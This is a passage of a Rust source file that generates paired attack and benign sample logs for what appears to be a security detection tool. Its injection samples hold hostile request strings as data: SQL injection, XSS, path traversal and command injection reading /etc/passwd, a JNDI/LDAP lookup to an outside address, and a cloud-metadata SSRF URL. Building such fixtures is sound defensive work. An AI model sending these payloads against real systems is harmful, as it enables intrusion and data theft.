//! The files of `sample-logs/`: one attack or fault each, and its harmless look-alike.

use serde_json::json;

use super::Tape;
use super::look_alikes::look_alikes;
use super::signals::signals;
use super::systems::{MARKET, MEDIA_SESSION, Request, SecurityEvent, Session, Statement};
use crate::event::Timestamp;

/// A file of `sample-logs/`.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Sample {
    /// `<subject>-<what>` or `<subject>-<what>.benign`, without `.log`.
    pub name: &'static str,
    /// What it shows, one line for the README.
    pub about: &'static str,
    pub text: String,
    /// Which of its lines are near misses, and of which rules.
    pub look_alikes: Vec<LookAlike>,
}

/// A harmless line that resembles what a rule looks for.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct LookAlike {
    /// Name of the rule.
    pub rule: &'static str,
    pub line: String,
}

/// All sample files, in the order of the README.
#[must_use]
pub fn samples() -> Vec<Sample> {
    [
        authentication(),
        more_authentication(),
        sessions_and_tokens(),
        rate_limits(),
        abuse(),
        injection(),
        circuit_breakers(),
        database(),
        transport(),
        secrets_and_encryption(),
        configuration(),
        availability(),
        correlation_ids(),
        signals(),
        look_alikes(),
        benign_days(),
    ]
    .concat()
}

fn authentication() -> Vec<Sample> {
    vec![
        sample(
            "authentication-lockout",
            "five wrong passwords, the account is locked, a sixth try is refused",
            |tape| {
                tape.shop_visit(0, "10.30.0.5");
                tape.shop_login(4 * SECOND, "maria@shop.example", "10.30.0.5", true);
                tape.brute_force_until_locked(20 * SECOND, "lena@shop.example", "203.0.113.61", 13 * SECOND);
                tape.shop_visit(50 * SECOND, "10.30.0.7");
                tape.shop_visit(2 * MINUTE, "10.30.0.5");
            },
        ),
        sample(
            "authentication-lockout.benign",
            "people who mistype: never five times within 15 minutes",
            |tape| {
                for (n, at) in [0, 10, 20, 30].into_iter().enumerate() {
                    tape.shop_login(at * SECOND, "omar@shop.example", "10.30.0.8", n == 3);
                }
                for n in 0..4 {
                    tape.shop_login(MINUTE + n * 9 * MINUTE, "lena@shop.example", "10.30.0.7", false);
                }
                tape.shop_login(30 * MINUTE, "lena@shop.example", "10.30.0.7", true);
                tape.shop_visit(31 * MINUTE, "10.30.0.7");
            },
        ),
        sample(
            "authentication-lockout-text",
            "the same in plain text without any field: nine wrong passwords for one e-mail",
            |tape| {
                tape.lattice_visit(0, "10.70.0.4");
                tape.lattice_login(5 * SECOND, "olga@lattice.example", "10.70.0.4", true);
                for n in 0..9 {
                    tape.lattice_login(
                        30 * SECOND + n * 11 * SECOND,
                        "milo@lattice.example",
                        "203.0.113.210",
                        false,
                    );
                }
                tape.lattice_visit(3 * MINUTE, "10.70.0.4");
            },
        ),
        sample(
            "authentication-guessed-password",
            "seven guesses on an account that is never locked, then the right password",
            |tape| {
                tape.media_visit(0, "10.20.0.14");
                tape.guessing_with_success(10 * SECOND, "maya.lopes", "203.0.113.140");
            },
        ),
    ]
}

fn rate_limits() -> Vec<Sample> {
    vec![
        sample("rate-limits-client", "one client far over its limit, refused again and again", |tape| {
            tape.shop_visit(0, "10.30.0.5");
            tape.shop_rate_limited(5 * SECOND, "198.51.100.77", 12, 1_200);
            tape.shop_visit(25 * SECOND, "10.30.0.6");
        }),
        sample("rate-limits-login", "a login form that is limited to five tries a minute", |tape| {
            tape.media_visit(0, "10.20.0.14");
            tape.media_rate_limited(3 * SECOND, "203.0.113.50", 24);
        }),
        sample("rate-limits-flood", "the flood protection of the marketplace refuses one address", |tape| {
            tape.market_visit(0, "10.40.7.3");
            tape.market_flood(2 * SECOND, "203.0.113.24", 15);
        }),
        sample("rate-limits-customer", "a customer sends more than the tier allows", |tape| {
            for n in 0..5 {
                tape.market_request(
                    n * 4 * SECOND,
                    &Request::post("10.40.7.3", "/api/v1/agents/report-writer/execute", 429),
                    &[(
                        "WARNING",
                        "core.rate_limiter",
                        "Rate limit exceeded for cust_1001 (tier: solo, scope: global, window: minute)",
                    )],
                );
            }
        }),
        sample(
            "rate-limits-client.benign",
            "a limit touched once, and words about limits that are no refusal",
            |tape| {
                tape.shop_visit(0, "10.30.0.5");
                tape.shop_rate_limited(5 * SECOND, "10.30.0.6", 1, 1_000);
                tape.market(
                    9 * SECOND,
                    "INFO",
                    "core.rate_limiter",
                    "Reset all rate limits for customer cust_1001",
                    "",
                );
                tape.lattice(
                12 * SECOND,
                "auth.middleware",
                "WARNING",
                "Using in-memory rate limiting for ip:10.70.0.4. Configure Redis for production-grade rate limiting.",
            );
                tape.lattice_visit(12 * SECOND, "10.70.0.4");
                tape.shop_visit(40 * SECOND, "10.30.0.6");
            },
        ),
    ]
}

fn abuse() -> Vec<Sample> {
    vec![
        sample(
            "abuse-blocked-address",
            "too many violations: the service blocks the address for 15 minutes",
            |tape| {
                tape.shop_visit(0, "10.30.0.5");
                tape.shop_rate_limited(5 * SECOND, "198.51.100.77", 5, 900);
                tape.shop_address_blocked(10 * SECOND, "198.51.100.77");
                tape.shop_visit(20 * SECOND, "10.30.0.6");
            },
        ),
        sample("abuse-blocked-address.benign", "an address that is busy, but within its limits", |tape| {
            for n in 0..9 {
                tape.shop_visit(n * 1_500, "10.30.0.6");
            }
        }),
        sample("abuse-shared-key", "one API key at eight addresses with changing agents: score 50", |tape| {
            tape.market_banner(0);
            tape.market_visit(500, "10.40.7.3");
            tape.key_shared_by_many(3 * SECOND, "cust_1002", 8);
        }),
        sample("abuse-scan", "a scanner walks through paths under its own name", |tape| {
            tape.path_scan(0, "203.0.113.66", 30);
        }),
        sample("abuse-scan.benign", "a few dead links", |tape| {
            for n in 0..6 {
                tape.media_nginx(n * 4 * SECOND, "", &Request::get("10.20.0.14", "/favicon.ico", 404));
                tape.media_visit(n * 4 * SECOND + 900, "10.20.0.14");
            }
        }),
        sample("abuse-other-peoples-objects", "somebody counts through the ids of videos", |tape| {
            for n in 0..14u64 {
                let target = format!("/api/videos/{}", n + 1);
                tape.media_nginx(n * 1_300, "", &Request::get("10.20.0.23", &target, 403));
                tape.media_denied(n * 1_300 + 2, "jin.park", "10.20.0.23", &format!("video:{}", n + 1));
            }
        }),
        sample("abuse-other-peoples-objects.benign", "links to three videos that are gone", |tape| {
            for n in 0..3 {
                let target = format!("/api/videos/{}", n + 40);
                tape.media_nginx(n * 20 * SECOND, "", &Request::get("10.20.0.14", &target, 404));
                tape.media_visit(n * 20 * SECOND + 900, "10.20.0.14");
            }
        }),
        sample("abuse-deletion.benign", "somebody removes two of his videos", |tape| {
            for (n, failure) in
                [Some("invalid_password"), Some("invalid_password"), None].into_iter().enumerate()
            {
                tape.media_login(n as u64 * 9 * SECOND, "maya.lopes", "10.20.0.14", failure);
            }
            for n in 0..2 {
                let (at, resource) = (MINUTE + n * 9 * SECOND, format!("video:{}", n + 1));
                tape.media_change(at, "video_deleted", "maya.lopes", &resource, json!(null), "10.20.0.14");
            }
        }),
        sample("abuse-deletion", "a guessed password, and three objects are gone", |tape| {
            tape.guessing_with_success(0, "maya.lopes", "203.0.113.140");
            for n in 0..3 {
                let resource = format!("video:{}", n + 1);
                tape.media_change(
                    4 * MINUTE + n * 9 * SECOND,
                    "video_deleted",
                    "maya.lopes",
                    &resource,
                    json!(null),
                    "203.0.113.140",
                );
            }
        }),
        sample("abuse-clockwork", "ten requests like clockwork, with changing agents", |tape| {
            let agents =
                ["curl/8.5.0", "python-requests/2.32.3", "Go-http-client/2.0", "okhttp/4.12.0", "Wget/1.21"];
            for n in 0..12u64 {
                let agent = agents[(n % 5) as usize];
                tape.media_combined(
                    n * 4_000,
                    &Request { agent, ..Request::get("203.0.113.77", "/api/videos", 200) },
                );
            }
        }),
        sample(
            "abuse-shared-key.benign",
            "two people of one customer, a little odd to the service",
            |tape| {
                for n in 0..5 {
                    tape.market_visit(n * 4 * SECOND, if n % 2 == 0 { "10.40.7.3" } else { "10.40.7.4" });
                }
                tape.like("abuse_score", |tape| {
                    let fields = [("customer_id", json!("cust_1001")), ("risk_score", json!(20))];
                    let message = "Suspicious activity detected";
                    tape.market_with(22 * SECOND, "WARNING", "api.v1.marketplace", message, "", &fields);
                });
            },
        ),
    ]
}

fn injection() -> Vec<Sample> {
    vec![
        sample(
            "injection-blocked",
            "six payloads of five families in the query; the middleware refuses them",
            |tape| {
                tape.shop_visit(0, "10.30.0.5");
                tape.shop_injection(
                    3 * SECOND,
                    "203.0.113.90",
                    &[
                        "/api/v1/products?q=1+UNION+SELECT+password+FROM+users",
                        "/api/v1/products?q=1%27+OR+%271%27%3D%271",
                        "/api/v1/products?q=%3Cscript%3Ealert(1)%3C/script%3E",
                        "/api/v1/files?name=../../../../etc/passwd",
                        "/api/v1/run?c=%3Bcat+/etc/passwd",
                        "/api/v1/products?q=x%27%3B+DROP+TABLE+orders--",
                    ],
                    3 * SECOND,
                );
            },
        ),
        sample(
            "injection-joined",
            "alert lines without address or payload: both stand in another line of the same request",
            |tape| {
                tape.market_visit(0, "10.40.7.3");
                let targets = [
                    ("/api/v1/packages?q=1%27+OR+%271%27%3D%271", "SQL injection"),
                    ("/api/v1/packages?q=1+UNION+SELECT+a+FROM+b", "SQL injection"),
                    ("/api/v1/packages?q=x%27%3B+DROP+TABLE+agents--", "SQL injection"),
                    ("/api/v1/packages?q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E", "XSS"),
                    ("/api/v1/packages?q=1%27+AND+SLEEP%285%29--+-", "SQL injection"),
                ];
                for (n, (target, family)) in targets.iter().enumerate() {
                    tape.market_injection(2 * SECOND + n as u64 * 5 * SECOND, "203.0.113.21", target, family);
                }
            },
        ),
        sample(
            "injection-unseen",
            "payloads that only the proxy's log shows: nothing refused them",
            |tape| {
                for (n, target) in [
                    "/api/videos?id=1%20UNION%20ALL%20SELECT%20NULL%2Cversion()--",
                    "/api/videos?title=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
                    "/static/..%2f..%2f..%2fetc%2fpasswd",
                    "/api/export?name=a%24(id)",
                    "/api/videos?id=1%27%20AND%20(SELECT%201%20FROM%20pg_sleep(5))--",
                ]
                .iter()
                .enumerate()
                {
                    tape.media_combined(n as u64 * 4 * SECOND, &Request::get("203.0.113.91", target, 200));
                    tape.media_combined(
                        n as u64 * 4 * SECOND + 900,
                        &Request::get("10.20.0.14", "/api/videos?page=2", 200),
                    );
                }
            },
        ),
        sample("injection-other", "payloads of the rarer families, as the proxy logs them", |tape| {
            for (n, target) in [
                "/api/users?name[$ne]=x",
                "/api/greet?name={{7*7}}",
                "/api/people?filter=*)(uid=*",
                "/api/go?to=%0d%0aSet-Cookie:%20a=b",
                "/api/import?x=%3C!DOCTYPE%20a%20SYSTEM%20%22file:///etc/hosts%22%3E",
                "/api/log?x=$%7Bjndi:ldap://203.0.113.91/a%7D",
                "/api/fetch?url=http://169.254.169.254/latest/meta-data/",
            ]
            .iter()
            .enumerate()
            {
                tape.media_combined(n as u64 * 40 * SECOND, &Request::get("203.0.113.91", target, 400));
            }
        }),
        sample(
            "injection-blocked.benign",
            "ordinary paths and questions that naive patterns take for attacks",
            |tape| {
                tape.shop_injection(
                    0,
                    "10.30.0.5",
                    &[
                        "/api/v1/users/update",
                        "/api/v1/products?condition=new",
                        "/api/v1/products?session=1;v=2",
                    ],
                    4 * SECOND,
                );
                for (n, target) in [
                    "/api/v1/packages?q=issue+%2342",
                    "/api/v1/packages?q=blue+--+large",
                    "/api/v1/packages?q=select+a+plan+from+the+list",
                    "/api/v1/packages?q=terms+and+conditions+%3D+yes",
                ]
                .iter()
                .enumerate()
                {
                    tape.market_injection(
                        20 * SECOND + n as u64 * 5 * SECOND,
                        "100.70.1.4",
                        target,
                        "SQL injection",
                    );
                }
                tape.media_combined(
                    50 * SECOND,
                    &Request::get("10.20.0.14", "/api/videos?title=union+square+was+a+great+select", 200),
                );
                tape.media_combined(
                    51 * SECOND,
                    &Request::get("10.20.0.14", "/docs/scripts/alert-and-confirm.html", 200),
                );
            },
        ),
    ]
}

fn circuit_breakers() -> Vec<Sample> {
    vec![
        sample(
            "circuit-breakers-cycle",
            "the database is refused, the breaker opens, probes after 30 s and closes",
            |tape| {
                tape.shop_visit(0, "10.30.0.5");
                let error =
                    "connection to server at 'db-primary' (10.30.5.4), port 5432 failed: Connection refused";
                tape.shop_breaker_opens(2 * SECOND, "database", error, 3);
                tape.shop_breaker(36 * SECOND, "database", "half_open");
                tape.shop_breaker(38 * SECOND, "database", "closed");
                tape.shop_visit(50 * SECOND, "10.30.0.5");
            },
        ),
        sample(
            "circuit-breakers-reopens",
            "a provider that is still broken when the breaker probes: it opens again",
            |tape| {
                tape.market_visit(0, "10.40.7.3");
                tape.market_breaker(2 * SECOND, "stripe_api", "OPEN");
                tape.market_breaker(50 * SECOND, "stripe_api", "CLOSED");
                tape.market_breaker(5 * SECOND, "anthropic_api", "OPEN");
                tape.market_breaker(65 * SECOND, "anthropic_api", "HALF_OPEN");
                tape.market_breaker(67 * SECOND, "anthropic_api", "OPEN");
                tape.market_breaker(127 * SECOND, "anthropic_api", "HALF_OPEN");
                tape.market_breaker(130 * SECOND, "anthropic_api", "CLOSED");
                tape.market_visit(140 * SECOND, "10.40.7.3");
            },
        ),
        sample(
            "circuit-breakers-cycle.benign",
            "breakers that are made and counted, but do not open",
            |tape| {
                for name in ["database", "anthropic_api", "stripe_api"] {
                    tape.market(
                        0,
                        "INFO",
                        "core.circuit_breaker",
                        &format!("Created circuit breaker: {name}"),
                        "",
                    );
                }
                tape.market(
                    9 * SECOND,
                    "WARNING",
                    "core.circuit_breaker",
                    "Circuit breaker 'database' recorded failure: TimeoutError",
                    "",
                );
                tape.market_visit(10 * SECOND, "10.40.7.3");
                tape.shop_visit(12 * SECOND, "10.30.0.5");
            },
        ),
    ]
}

fn more_authentication() -> Vec<Sample> {
    vec![
        sample("authentication-spraying", "one password on twelve accounts from three addresses", |tape| {
            let users = [
                "ada@shop.example",
                "bob@shop.example",
                "cleo@shop.example",
                "dan@shop.example",
                "eve@shop.example",
                "fay@shop.example",
                "gus@shop.example",
                "hal@shop.example",
                "ivy@shop.example",
                "joe@shop.example",
                "kim@shop.example",
                "leo@shop.example",
            ];
            tape.shop_visit(0, "10.30.0.5");
            tape.password_spraying(5 * SECOND, &users, &["198.51.100.70", "198.51.100.71", "198.51.100.72"]);
        }),
        sample(
            "authentication-spraying.benign",
            "seven different people mistype within ten minutes",
            |tape| {
                let users = [
                    "ada@shop.example",
                    "bob@shop.example",
                    "cleo@shop.example",
                    "dan@shop.example",
                    "eve@shop.example",
                    "fay@shop.example",
                    "gus@shop.example",
                ];
                tape.password_spraying(0, &users, &["10.30.0.5", "10.30.0.6", "10.30.0.7"]);
                tape.shop_login(4 * MINUTE, "ada@shop.example", "10.30.0.5", true);
            },
        ),
        sample(
            "authentication-unknown-users",
            "twelve names that do not exist, in an audit trail without levels",
            |tape| {
                tape.assist_audit(0, "auth_success", Some("assist_admin"), json!({}));
                for n in 0..12 {
                    let user = format!("root{n:02}");
                    tape.assist_audit(
                        10 * SECOND + n * 9 * SECOND,
                        "auth_failed_user_not_found",
                        Some(&user),
                        json!({}),
                    );
                }
            },
        ),
        sample("authentication-unknown-users.benign", "two people who mistype their own name", |tape| {
            for (n, user) in ["ida.mos", "jin.prak"].into_iter().enumerate() {
                let at = n as u64 * 2 * MINUTE;
                tape.assist_audit(at, "auth_failed_user_not_found", Some(user), json!({}));
                tape.assist_audit(at + 9 * SECOND, "auth_success", Some("assist_admin"), json!({}));
            }
        }),
        sample(
            "authentication-many-addresses",
            "logins refused from twelve addresses, each below its own limit",
            |tape| {
                for n in 0..12 {
                    let ip = format!("203.0.113.{}", 101 + n);
                    tape.media_nginx(n * 4 * MINUTE, "", &Request::post(&ip, "/api/auth/login", 401));
                }
            },
        ),
        sample(
            "authentication-denied",
            "a user who may only read asks for the list of users, and a member for the tenants",
            |tape| {
                tape.authorization_denied(0, "user_000006", "10.30.0.8", 7);
                for n in 0..6 {
                    let at = 70 * SECOND + n * 4 * SECOND;
                    tape.lattice(at, "auth.middleware", "WARNING", "Admin access denied");
                    tape.lattice_request(at + 1, &Request::get("10.70.0.5", "/api/tenants", 403));
                }
            },
        ),
        sample("authentication-denied.benign", "two clicks on what one may not do", |tape| {
            tape.authorization_denied(0, "user_000006", "10.30.0.8", 2);
            tape.lattice_visit(30 * SECOND, "10.70.0.5");
            tape.lattice(40 * SECOND, "auth.middleware", "WARNING", "Admin access denied");
            tape.lattice_request(40 * SECOND + 1, &Request::get("10.70.0.5", "/api/tenants", 403));
        }),
        sample("authentication-without-credentials", "API calls without or with forged tokens", |tape| {
            for n in 0..12 {
                let at = n * 2 * SECOND;
                tape.lattice(at, "auth.middleware", "WARNING", "Unauthenticated API access attempt");
                tape.lattice_request(at + 1, &Request::get("203.0.113.211", "/api/lattices", 401));
            }
        }),
        sample(
            "authentication-without-credentials.benign",
            "a session that ended while the page was open",
            |tape| {
                tape.lattice_visit(0, "10.70.0.5");
                for n in 1..3 {
                    let at = n * 20 * SECOND;
                    tape.lattice(at, "auth.middleware", "WARNING", "Unauthenticated API access attempt");
                    tape.lattice_request(at + 1, &Request::get("10.70.0.5", "/api/lattices", 401));
                }
                tape.lattice_login(MINUTE, "olga@lattice.example", "10.70.0.5", true);
            },
        ),
        sample(
            "authentication-admin-address",
            "the administration called from addresses that are not on its list",
            |tape| {
                for (n, ip) in ["203.0.113.25", "203.0.113.25", "10.40.7.2"].iter().enumerate() {
                    tape.market_request(
                        n as u64 * 6 * SECOND,
                        &Request::post(ip, "/api/v1/rate-limits/reset/cust_1001", 403),
                        &[(
                            "WARNING",
                            "core.security_middleware",
                            "Unauthorized IP access to admin endpoint",
                        )],
                    );
                }
            },
        ),
        sample(
            "authentication-admin-address.benign",
            "the same call from an address that is allowed",
            |tape| {
                tape.market_request(
                    0,
                    &Request::post("10.40.0.2", "/api/v1/rate-limits/reset/cust_1001", 200),
                    &[("INFO", "core.rate_limiter", "Reset all rate limits for customer cust_1001")],
                );
                tape.market_visit(5 * SECOND, "10.40.7.3");
            },
        ),
        sample("authentication-csrf", "state-changing calls without their token", |tape| {
            for n in 0..6 {
                tape.market_request(
                    n * 3 * SECOND,
                    &Request::post("203.0.113.26", "/web/profile", 403),
                    &[("WARNING", "core.security_middleware", "Missing CSRF token")],
                );
            }
        }),
        sample("authentication-csrf.benign", "two forms that were open for too long", |tape| {
            for n in 0..2 {
                tape.market_request(
                    n * 30 * SECOND,
                    &Request::post("10.40.7.3", "/web/profile", 403),
                    &[("WARNING", "core.security_middleware", "Missing CSRF token")],
                );
            }
        }),
        sample("authentication-api-keys", "sixteen API keys guessed, and a forged one", |tape| {
            tape.market_visit(0, "10.40.7.3");
            tape.api_key_guessing(4 * SECOND, "203.0.113.27", 16);
            tape.assist(
                40 * SECOND,
                "warning",
                "api_key_bad_signature",
                &[("client_ip", json!("203.0.113.28")), ("key_prefix", json!("ak_live_9f"))],
            );
        }),
        sample(
            "authentication-api-keys-addressed",
            "guessed keys and missing tokens of a service that names addresses",
            |tape| {
                for n in 0..11 {
                    tape.assist(
                        n * 3 * SECOND,
                        "warning",
                        "api_key_invalid",
                        &[("client_ip", json!("203.0.113.27"))],
                    );
                }
                for n in 0..6 {
                    tape.assist(
                        MINUTE + n * 3 * SECOND,
                        "warning",
                        "csrf_missing",
                        &[("client_ip", json!("203.0.113.26"))],
                    );
                }
                for n in 0..6 {
                    let message = format!("API key used: ***Q7ra from 203.0.113.{}", 40 + n);
                    tape.shop(2 * MINUTE + n * 9 * SECOND, "INFO", "api.v1.keys", &message, "");
                }
            },
        ),
        sample(
            "authentication-api-keys.benign",
            "keys made and used as they should be, one of them wrong once",
            |tape| {
                for n in 0..3 {
                    tape.market_request(
                        n * 5 * SECOND,
                        &Request::post("10.40.7.3", "/api/v1/agents/report-writer/execute", 200),
                        &[("INFO", "api.v1.marketplace", "API key used: ***Q7ra")],
                    );
                }
                tape.api_key_guessing(20 * SECOND, "10.40.7.4", 1);
            },
        ),
        sample("authentication-api-keys-broken", "a service that cannot check any key", |tape| {
            for n in 0..4 {
                let cid = format!("7c0f3a52-11d2-4e0e-9f3e-0c2d4b6a{n:04}");
                tape.shop(
                    n * 2 * SECOND,
                    "ERROR",
                    "security.tokens",
                    "API key validation error: No module named 'keys'",
                    &cid,
                );
                tape.shop_request(
                    n * 2 * SECOND + 1,
                    &cid,
                    &Request::get("10.30.0.40", "/api/v1/service/ping", 401),
                );
            }
        }),
        sample(
            "authentication-administrator-made",
            "a role raised, a key made and used elsewhere, retention shortened",
            |tape| {
                tape.media_change(
                    0,
                    "api_key_created",
                    "admin",
                    "api_key:ak_9f31",
                    json!({ "scope": "upload" }),
                    "10.20.0.9",
                );
                tape.media_change(
                    20 * SECOND,
                    "api_key_used",
                    "svc-upload",
                    "api_key:ak_9f31",
                    json!(null),
                    "203.0.113.171",
                );
                tape.media_change(
                    40 * SECOND,
                    "user_role_changed",
                    "admin",
                    "user:jin.park",
                    json!({ "old": "editor", "new": "administrator" }),
                    "10.20.0.9",
                );
                tape.media_change(
                    60 * SECOND,
                    "settings_changed",
                    "admin",
                    "settings:retention_days",
                    json!({ "old": 90, "new": 1 }),
                    "10.20.0.9",
                );
            },
        ),
        sample(
            "authentication-administrator-made.benign",
            "a lesser role, and a key used where it was made",
            |tape| {
                for (n, action) in ["api_key_created", "api_key_used"].into_iter().enumerate() {
                    let at = 30 * SECOND + n as u64 * 20 * SECOND;
                    tape.media_change(at, action, "admin", "api_key:ak_9f31", json!(null), "10.20.0.9");
                }
                tape.media_change(
                    0,
                    "user_role_changed",
                    "admin",
                    "user:jin.park",
                    json!({ "old": "editor", "new": "viewer" }),
                    "10.20.0.9",
                );
                for n in 1..5 {
                    tape.media_visit(n * 5 * SECOND, "10.20.0.14");
                }
            },
        ),
        sample(
            "authentication-reset-abuse",
            "password resets and verification codes, again and again",
            |tape| {
                for n in 0..6 {
                    let ip = json!("203.0.113.44");
                    tape.assist(
                        n * 20 * SECOND,
                        "info",
                        "password_reset_requested",
                        &[("user_id", json!(format!("u-{n}"))), ("client_ip", ip.clone())],
                    );
                    tape.assist(
                        n * 20 * SECOND + 5_000,
                        "warning",
                        "email_verification_failed",
                        &[("user_id", json!(format!("u-{n}"))), ("client_ip", ip)],
                    );
                }
            },
        ),
        sample("authentication-reset-abuse.benign", "two people forgot their password", |tape| {
            for (n, ip) in ["10.30.0.9", "10.30.0.10"].iter().enumerate() {
                let at = n as u64 * MINUTE;
                tape.assist(
                    at,
                    "info",
                    "password_reset_requested",
                    &[("user_id", json!(format!("u-{n}"))), ("client_ip", json!(ip))],
                );
                tape.assist_visit(at + SECOND, ip);
                tape.assist_visit(at + 9 * SECOND, ip);
            }
            let fields = [("user_id", json!("u-1")), ("client_ip", json!("10.30.0.10"))];
            tape.assist(70 * SECOND, "warning", "email_verification_failed", &fields);
        }),
    ]
}

fn sessions_and_tokens() -> Vec<Sample> {
    vec![
        sample(
            "sessions-and-tokens-revoked",
            "a token used after its owner logged out, from somewhere else",
            |tape| {
                tape.shop_visit(0, "10.30.0.5");
                tape.revoked_token_used(5 * SECOND, "maria@shop.example", "10.30.0.5", "203.0.113.80");
            },
        ),
        sample("sessions-and-tokens-revoked.benign", "a logout, and a login afterwards", |tape| {
            let cid = "5f0c1d8a-7c55-4b53-8f0e-2a7d6f1e9b10";
            tape.shop(0, "INFO", "security.tokens", "🚫 Token blacklisted for security", cid);
            tape.shop_request(1, cid, &Request::post("10.30.0.5", "/api/v1/auth/logout", 200));
            tape.shop_login(30 * SECOND, "maria@shop.example", "10.30.0.5", true);
        }),
        sample(
            "sessions-and-tokens-reuse",
            "a refresh token that was already exchanged comes again",
            |tape| {
                tape.assist_visit(0, "10.30.0.9");
                tape.refresh_token_reused(3 * SECOND, "u-1042", "10.30.0.9", "198.51.100.23");
                tape.assist_visit(40 * SECOND, "10.30.0.9");
            },
        ),
        sample("sessions-and-tokens-reuse.benign", "refresh tokens rotate, each used once", |tape| {
            for n in 0..6 {
                tape.assist(
                    n * 30 * SECOND,
                    "info",
                    "refresh_token_rotated",
                    &[("user_id", json!("u-1042")), ("client_ip", json!("10.30.0.9"))],
                );
            }
        }),
        sample("sessions-and-tokens-forged", "forged, broken and over-age tokens", |tape| {
            for n in 0..6 {
                let id = format!("0d9c6a3e-4f11-4c7a-b1aa-6a60f3c0{n:04}");
                let fields = [("request_id", json!(id)), ("client_ip", json!("203.0.113.95"))];
                tape.assist(n * 4 * SECOND, "warning", "token_verification_failed", &fields);
                tape.assist_request(
                    n * 4 * SECOND + 1,
                    &id,
                    &Request::get("203.0.113.95", "/v1/documents", 401),
                );
            }
            tape.assist(30 * SECOND, "warning", "token_alg_none", &[("client_ip", json!("203.0.113.95"))]);
            tape.assist(
                33 * SECOND,
                "warning",
                "token_too_old",
                &[("user_id", json!("u-7")), ("client_ip", json!("203.0.113.95"))],
            );
        }),
        sample(
            "sessions-and-tokens-travel",
            "one session at four addresses, seven sessions of one user, impossible travel",
            |tape| {
                for (n, ip) in ["10.30.0.9", "198.51.100.23", "203.0.113.9", "192.0.2.77"].iter().enumerate()
                {
                    tape.assist(
                        n as u64 * 40 * SECOND,
                        "info",
                        "session_activity",
                        &[
                            ("session_id", json!("s-51d0")),
                            ("user_id", json!("u-1042")),
                            ("client_ip", json!(ip)),
                        ],
                    );
                }
                for n in 0..7 {
                    tape.assist(
                        3 * MINUTE + n * 20 * SECOND,
                        "info",
                        "session_created",
                        &[
                            ("session_id", json!(format!("s-{n:04}"))),
                            ("user_id", json!("u-2001")),
                            ("client_ip", json!("198.51.100.9")),
                        ],
                    );
                }
                tape.assist(
                    6 * MINUTE,
                    "warning",
                    "impossible_travel",
                    &[
                        ("user_id", json!("u-1042")),
                        ("client_ip", json!("192.0.2.77")),
                        ("risk_score", json!(75)),
                    ],
                );
            },
        ),
        sample(
            "sessions-and-tokens-travel.benign",
            "a phone that leaves the office network and signs in again",
            |tape| {
                for (n, ip) in
                    ["10.30.0.9", "10.30.0.9", "198.51.100.200", "198.51.100.200"].iter().enumerate()
                {
                    tape.assist(
                        n as u64 * MINUTE,
                        "info",
                        "session_activity",
                        &[
                            ("session_id", json!("s-77aa")),
                            ("user_id", json!("u-3")),
                            ("client_ip", json!(ip)),
                        ],
                    );
                }
                for n in 0..2 {
                    let session = format!("s-78{n:02}");
                    let fields = [
                        ("session_id", json!(session)),
                        ("user_id", json!("u-3")),
                        ("client_ip", json!("198.51.100.200")),
                    ];
                    tape.assist(4 * MINUTE + n * 20 * SECOND, "info", "session_created", &fields);
                }
            },
        ),
    ]
}

fn database() -> Vec<Sample> {
    vec![
        sample("database-outage", "the database is gone for half a minute; requests fail", |tape| {
            tape.media_visit(0, "10.20.0.14");
            tape.media_database_down(5 * SECOND, 6);
            tape.media_visit(50 * SECOND, "10.20.0.14");
        }),
        sample("database-outage.benign", "one lost connection, and errors that are no outage", |tape| {
            tape.media_database_down(0, 1);
            let message = "Failed to list videos: 'Session' object has no attribute 'query'";
            for n in 1..5 {
                tape.media_log(n * 6 * SECOND, "ERROR", "media.api.videos", message, &[]);
                tape.media_visit(n * 6 * SECOND + 1, "10.20.0.14");
            }
        }),
        sample(
            "database-pool",
            "no connection is free; sessions time out; the guard raises its threat level",
            |tape| {
                let message =
                    "QueuePool limit of size 10 overflow 5 reached, connection timed out, timeout 30.00";
                for n in 0..3 {
                    tape.media_log(n * 4 * SECOND, "ERROR", "media.api.videos", message, &[]);
                }
                tape.postgres(
                    20 * SECOND,
                    &MEDIA_SESSION,
                    "ERROR",
                    "57014",
                    "canceling statement due to statement timeout",
                );
                let cid = "c7f3f2aa-90a1-4a53-9f0b-5d2f0f2f7a11";
                tape.shop(
                    30 * SECOND,
                    "WARNING",
                    "database.guard",
                    "Database threat level raised to HIGH",
                    cid,
                );
            },
        ),
        sample(
            "database-suspicious-query",
            "reports that read what they should not; a nightly clean-up beside them",
            |tape| {
                let cid = "a1b8b3f2-2c38-4d79-a4b2-8ff3a7d90001";
                for (n, sql) in [
                    "delete from sessions where age > 90",
                    "select email from customers UNION SELECT rolname from pg_roles",
                    "drop table if exists audit_tmp",
                ]
                .iter()
                .enumerate()
                {
                    let at = n as u64 * 8 * SECOND;
                    tape.shop(
                        at,
                        "WARNING",
                        "database.guard",
                        &format!("🚨 Suspicious query detected: {sql}..."),
                        cid,
                    );
                    tape.shop_request(
                        at + 4,
                        cid,
                        &Request::get("10.30.0.6", "/api/v1/reports/run?name=sales", 200),
                    );
                }
            },
        ),
        sample("database-suspicious-query.benign", "the nightly clean-up alone", |tape| {
            let cid = "a1b8b3f2-2c38-4d79-a4b2-8ff3a7d90002";
            tape.shop(
                0,
                "WARNING",
                "database.guard",
                "🚨 Suspicious query detected: delete from sessions where age > 90...",
                cid,
            );
            tape.shop_visit(SECOND, "10.30.0.6");
            tape.shop_visit(4 * SECOND, "10.30.0.6");
        }),
        sample(
            "database-guessing",
            "passwords guessed at PostgreSQL, and a host that may not connect",
            |tape| {
                tape.postgres_guessing(0, "10.20.66.6", 9);
                let stranger = Session {
                    user: "media",
                    database: "media_production",
                    host: "10.99.3.9",
                    pid: 6_400,
                    application: "",
                };
                let message = "no pg_hba.conf entry for host \"10.99.3.9\", user \"media\", database \"media_production\", no encryption";
                tape.postgres(20 * SECOND, &stranger, "FATAL", "28000", message);
            },
        ),
        sample(
            "database-guessing.benign",
            "one mistyped password, and statements of the application",
            |tape| {
                tape.postgres_guessing(0, "10.20.8.10", 1);
                for n in 1..4 {
                    tape.media_visit(n * 4 * SECOND, "10.20.0.14");
                }
                tape.pgaudit(20 * SECOND, &MEDIA_SESSION, &Statement::new("READ", "SELECT", "SELECT 1"));
            },
        ),
        sample("database-rights", "somebody tries what other roles may", |tape| {
            tape.postgres_denied(
                0,
                "dev_intern",
                "10.20.30.44",
